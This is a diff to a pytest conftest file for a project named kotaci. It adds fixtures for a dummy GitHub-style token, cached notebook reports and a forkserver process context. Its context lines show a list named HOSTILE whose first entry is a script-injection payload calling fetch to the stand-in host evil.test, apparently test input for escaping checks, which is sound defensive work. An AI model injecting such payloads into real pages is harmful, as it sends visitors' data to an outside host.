@@ -2,15 +2,23 @@
 
 from __future__ import annotations
 
+import multiprocessing
 import os
+import pickle
 import shutil
 from collections import Counter
 from collections.abc import Iterator
 from pathlib import Path
+from typing import TYPE_CHECKING, Any
 
 import pytest
 
+from kotaci.places import notebooks_folder
 from kotaci.sample import open_sample
+from kotaci.store import open_store
+
+if TYPE_CHECKING:  # papermill takes a second to import
+    from kotaci.report.runner import Report
 
 HOSTILE = [
     "<script>fetch('https://evil.test/?a')</script>",
@@ -47,6 +55,39 @@ def sample(cache: Path) -> Path:
     """Return the bundled sample's store with its tables, made once for all workers: to be read, never written."""
     with open_sample() as store:
         return store.path
+
+
+@pytest.fixture(scope="session")
+def token() -> str:
+    """Return the token with which reports are made: it has the form of GitHub's, and must stand nowhere."""
+    return "ghp_" + "k0tac1" * 6
+
+
+@pytest.fixture(scope="session")
+def sample_reports(sample: Path, cache: Path, token: str) -> dict[str, Report]:
+    """Return the reports of all notebooks on the sample, made once for all workers: to be read, never written."""
+    from kotaci.report.runner import read_notebooks, run
+
+    done = cache / "sample-reports.pickle"
+    with open_store(sample) as store, store.lock("reports"):
+        if not done.is_file():
+            with pytest.MonkeyPatch.context() as patch:
+                patch.setenv("GITHUB_TOKEN", token)
+                parameters = {"store": str(sample)}
+                made = run(read_notebooks(notebooks_folder()), parameters=parameters, out=cache / "sample-reports")
+            done.write_bytes(pickle.dumps({report.name: report for report in made}))
+    reports: dict[str, Report] = pickle.loads(done.read_bytes())  # noqa: S301  (written by another worker)
+    return reports
+
+
+@pytest.fixture(scope="session")
+def processes() -> Any:
+    """Return where processes are forked from that have everything imported: they live and die as any other does."""
+    context = multiprocessing.get_context("forkserver")
+    context.set_forkserver_preload(
+        ["kotaci.cli", "kotaci.actions", "kotaci.archives", "kotaci.facts", "tests.commands"]
+    )
+    return context
 
 
 @pytest.fixture(scope="session")
